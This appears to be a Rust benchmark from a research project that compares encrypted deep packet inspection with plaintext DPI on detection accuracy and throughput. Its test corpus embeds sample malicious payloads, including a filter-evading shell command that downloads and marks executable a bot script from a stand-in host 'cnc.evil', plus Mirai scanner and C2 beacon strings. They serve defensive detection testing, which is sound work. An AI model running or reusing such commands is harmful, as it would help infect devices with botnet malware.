//! E-M4 — encrypted DPI (§IV-B2): detection and throughput of the
//! BlindBox-style encrypted middlebox vs plaintext DPI vs no inspection,
//! over a mixed corpus of benign and C&C traffic. The claim under test:
//! encrypted DPI preserves detection exactly, at a constant-factor
//! throughput cost, without breaking end-to-end encryption.

use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use std::time::Instant;
use xlf_bench::json::{self, Fixed, Obj};
use xlf_bench::timing::per_call;
use xlf_bench::{prf, print_table};
use xlf_core::dpi::{default_rules, EncryptedDpi, PlaintextDpi, Rule};
use xlf_lwcrypto::searchable::{Token, Tokenizer};
use xlf_simnet::SimTime;

/// The automaton must beat the per-rule scan by at least this factor at
/// 256 rules × 1 KiB, or the run fails before writing `BENCH_dpi.json`.
const AUTOMATON_REQUIRED_SPEEDUP: f64 = 5.0;

/// Builds the corpus: (payload, is_malicious).
fn corpus() -> Vec<(Vec<u8>, bool)> {
    let mut out = Vec::new();
    let benign = [
        "GET /weather/today?zip=44106 HTTP/1.1",
        "POST /telemetry temperature=71.2 humidity=40",
        "keepalive ping seq=291 device=thermo",
        "firmware check: version 2.1.3 ok",
        "stream chunk 0xA5A5 len=900 camera idle",
    ];
    let malicious = [
        "sh -c 'wget${IFS}http://cnc.evil/bot.sh' && chmod +x bot.sh",
        "/bin/busybox MIRAI scanner begin 10.0.0.0/24",
        "beacon POST /cdn-cgi/ HTTP keepalive c2",
    ];
    for round in 0..50 {
        for (i, b) in benign.iter().enumerate() {
            out.push((format!("{b} #{round}.{i}").into_bytes(), false));
        }
        // 1 in ~6 payloads is malicious.
        let m = malicious[round % malicious.len()];
        out.push((format!("{m} #{round}").into_bytes(), true));
    }
    out
}

/// Synthetic signature set of `n` distinct keywords (shaped like the C&C
/// markers of the default rules, but guaranteed disjoint).
fn synthetic_rules(n: usize) -> Vec<Rule> {
    (0..n)
        .map(|i| Rule {
            name: format!("sig-{i:04}"),
            keyword: format!("xlf:{i:04x}:c2-marker").into_bytes(),
        })
        .collect()
}

/// Random printable payloads of `size` bytes; every 8th payload gets one
/// rule keyword planted so the sweep also exercises the match path.
fn synthetic_payloads(rng: &mut StdRng, count: usize, size: usize, rules: &[Rule]) -> Vec<Vec<u8>> {
    (0..count)
        .map(|i| {
            let mut payload: Vec<u8> = (0..size).map(|_| rng.gen_range(0x20u8..0x7f)).collect();
            if i % 8 == 0 {
                let keyword = &rules[i % rules.len()].keyword;
                if keyword.len() <= size {
                    let at = rng.gen_range(0..=size - keyword.len());
                    payload[at..at + keyword.len()].copy_from_slice(keyword);
                }
            }
            payload
        })
        .collect()
}

struct SweepCell {
    rules: usize,
    payload_bytes: usize,
    /// MB/s per engine over the same payload batch.
    naive: f64,
    automaton: f64,
    enc_naive: f64,
    enc_indexed: f64,
}

impl SweepCell {
    fn automaton_speedup(&self) -> f64 {
        self.automaton / self.naive.max(1e-9)
    }

    fn index_speedup(&self) -> f64 {
        self.enc_indexed / self.enc_naive.max(1e-9)
    }
}

/// The fast-path sweep: rule-set size × payload size, naive vs automaton
/// (plaintext) and naive vs token index (encrypted). Every engine scans
/// one payload at a time, as the gateway does.
fn fastpath_sweep() -> Vec<SweepCell> {
    const PAYLOADS_PER_CELL: usize = 48;
    let mut rng = StdRng::seed_from_u64(0x517f_d719);
    let mut cells = Vec::new();
    for &rule_count in &[8usize, 64, 256, 1024] {
        let rules = synthetic_rules(rule_count);
        for &size in &[256usize, 1024, 4096] {
            let payloads = synthetic_payloads(&mut rng, PAYLOADS_PER_CELL, size, &rules);
            let batch_bytes = (size * PAYLOADS_PER_CELL) as f64 / 1e6;
            let mbps = |secs_per_batch: f64| batch_bytes / secs_per_batch.max(1e-12);

            let plain = PlaintextDpi::new(rules.clone());
            let naive = mbps(per_call(1, || {
                for p in &payloads {
                    std::hint::black_box(plain.inspect_naive(p));
                }
            }));
            let automaton = mbps(per_call(1, || {
                for p in &payloads {
                    std::hint::black_box(plain.inspect(p));
                }
            }));

            let endpoint = Tokenizer::new(b"sweep session").expect("tokenizer");
            let streams: Vec<Vec<Token>> = payloads.iter().map(|p| endpoint.tokenize(p)).collect();
            let mut enc_naive_engine = EncryptedDpi::new(rules.clone()).with_naive_matching(true);
            enc_naive_engine
                .bind_session(b"sweep session")
                .expect("bind");
            let mut enc_indexed_engine = EncryptedDpi::new(rules.clone());
            enc_indexed_engine
                .bind_session(b"sweep session")
                .expect("bind");
            let enc_naive = mbps(per_call(1, || {
                for t in &streams {
                    std::hint::black_box(enc_naive_engine.inspect("dev", t, SimTime::ZERO));
                }
            }));
            let enc_indexed = mbps(per_call(1, || {
                for t in &streams {
                    std::hint::black_box(enc_indexed_engine.inspect("dev", t, SimTime::ZERO));
                }
            }));

            cells.push(SweepCell {
                rules: rule_count,
                payload_bytes: size,
                naive,
                automaton,
                enc_naive,
                enc_indexed,
            });
        }
    }
    cells
}

fn main() {
    let corpus = corpus();
    let total_bytes: usize = corpus.iter().map(|(p, _)| p.len()).sum();

    // Plaintext DPI (the middlebox that breaks end-to-end encryption).
    let plain = PlaintextDpi::new(default_rules());
    let start = Instant::now();
    let plain_outcomes: Vec<(bool, bool)> = corpus
        .iter()
        .map(|(p, truth)| (!plain.inspect(p).is_empty(), *truth))
        .collect();
    let plain_elapsed = start.elapsed().as_secs_f64();

    // Encrypted DPI: the endpoint tokenizes; the middlebox matches tokens.
    let mut enc = EncryptedDpi::new(default_rules());
    enc.bind_session(b"exp-dpi session").expect("bind");
    let endpoint = Tokenizer::new(b"exp-dpi session").expect("tokenizer");
    let start = Instant::now();
    let enc_outcomes: Vec<(bool, bool)> = corpus
        .iter()
        .map(|(p, truth)| {
            let tokens = endpoint.tokenize(p);
            (
                !enc.inspect("dev", &tokens, SimTime::ZERO).is_empty(),
                *truth,
            )
        })
        .collect();
    let enc_elapsed = start.elapsed().as_secs_f64();

    let none_outcomes: Vec<(bool, bool)> =
        corpus.iter().map(|(_, truth)| (false, *truth)).collect();

    let mbps = |elapsed: f64| (total_bytes as f64 / 1e6) / elapsed.max(1e-9);
    let rows = vec![
        {
            let m = prf(&none_outcomes);
            vec![
                "no inspection".to_string(),
                format!("{:.2}", m.precision),
                format!("{:.2}", m.recall),
                format!("{:.2}", m.f1),
                "∞".to_string(),
                "end-to-end intact".to_string(),
            ]
        },
        {
            let m = prf(&plain_outcomes);
            vec![
                "plaintext DPI".to_string(),
                format!("{:.2}", m.precision),
                format!("{:.2}", m.recall),
                format!("{:.2}", m.f1),
                format!("{:.1} MB/s", mbps(plain_elapsed)),
                "BROKEN (MitM certificates)".to_string(),
            ]
        },
        {
            let m = prf(&enc_outcomes);
            vec![
                "XLF encrypted DPI".to_string(),
                format!("{:.2}", m.precision),
                format!("{:.2}", m.recall),
                format!("{:.2}", m.f1),
                format!("{:.1} MB/s", mbps(enc_elapsed)),
                "end-to-end intact".to_string(),
            ]
        },
    ];
    print_table(
        "E-M4 — Encrypted DPI vs plaintext DPI vs none (§IV-B2)",
        &[
            "Engine",
            "Precision",
            "Recall",
            "F1",
            "Throughput",
            "E2E encryption",
        ],
        &rows,
    );
    println!(
        "\nCorpus: {} payloads ({} malicious), {} rules.\n\
         Shape check: encrypted DPI matches plaintext detection exactly while\n\
         preserving end-to-end encryption, at a constant-factor slowdown\n\
         ({}× here) — the BlindBox trade the paper adopts.",
        corpus.len(),
        corpus.iter().filter(|(_, m)| *m).count(),
        default_rules().len(),
        (mbps(plain_elapsed) / mbps(enc_elapsed)).round()
    );

    // Fast-path sweep: single-pass engines vs the per-rule scans across
    // rule-set sizes and payload sizes.
    let cells = fastpath_sweep();
    let rows: Vec<Vec<String>> = cells
        .iter()
        .map(|c| {
            vec![
                format!("{}", c.rules),
                format!("{} B", c.payload_bytes),
                format!("{:.0} MB/s", c.naive),
                format!("{:.0} MB/s", c.automaton),
                format!("{:.0} MB/s", c.enc_naive),
                format!("{:.0} MB/s", c.enc_indexed),
                format!("{:.1}×", c.automaton_speedup()),
            ]
        })
        .collect();
    print_table(
        "DPI fast path — rules × payload sweep (single-pass vs per-rule)",
        &[
            "Rules",
            "Payload",
            "Plain naive",
            "Automaton",
            "Enc naive",
            "Token index",
            "AC speedup",
        ],
        &rows,
    );
    let acceptance = cells
        .iter()
        .find(|c| c.rules == 256 && c.payload_bytes == 1024)
        .expect("acceptance cell swept");
    println!(
        "\nAcceptance: automaton is {:.1}× the naive scan at 256 rules × 1 KiB \
         (required ≥ {AUTOMATON_REQUIRED_SPEEDUP}×); token index is {:.1}× the naive \
         encrypted scan there.",
        acceptance.automaton_speedup(),
        acceptance.index_speedup()
    );
    assert!(
        acceptance.automaton_speedup() >= AUTOMATON_REQUIRED_SPEEDUP,
        "automaton below {AUTOMATON_REQUIRED_SPEEDUP}x the naive scan at 256 rules x 1 KiB: {:.2}x",
        acceptance.automaton_speedup()
    );
    json::write(
        "BENCH_dpi.json",
        &Obj::new()
            .field("experiment", "dpi-fastpath-sweep")
            .rows(
                "cells",
                cells.iter().map(|c| {
                    Obj::new()
                        .field("rules", c.rules)
                        .field("payload_bytes", c.payload_bytes)
                        .field("naive_mbps", Fixed(c.naive, 2))
                        .field("automaton_mbps", Fixed(c.automaton, 2))
                        .field("enc_naive_mbps", Fixed(c.enc_naive, 2))
                        .field("enc_indexed_mbps", Fixed(c.enc_indexed, 2))
                        .field("automaton_speedup", Fixed(c.automaton_speedup(), 2))
                        .field("index_speedup", Fixed(c.index_speedup(), 2))
                }),
            )
            .field(
                "acceptance",
                Obj::new()
                    .field("rules", 256u32)
                    .field("payload_bytes", 1024u32)
                    .field(
                        "automaton_speedup",
                        Fixed(acceptance.automaton_speedup(), 2),
                    )
                    .field("required", Fixed(AUTOMATON_REQUIRED_SPEEDUP, 1)),
            ),
    );
}
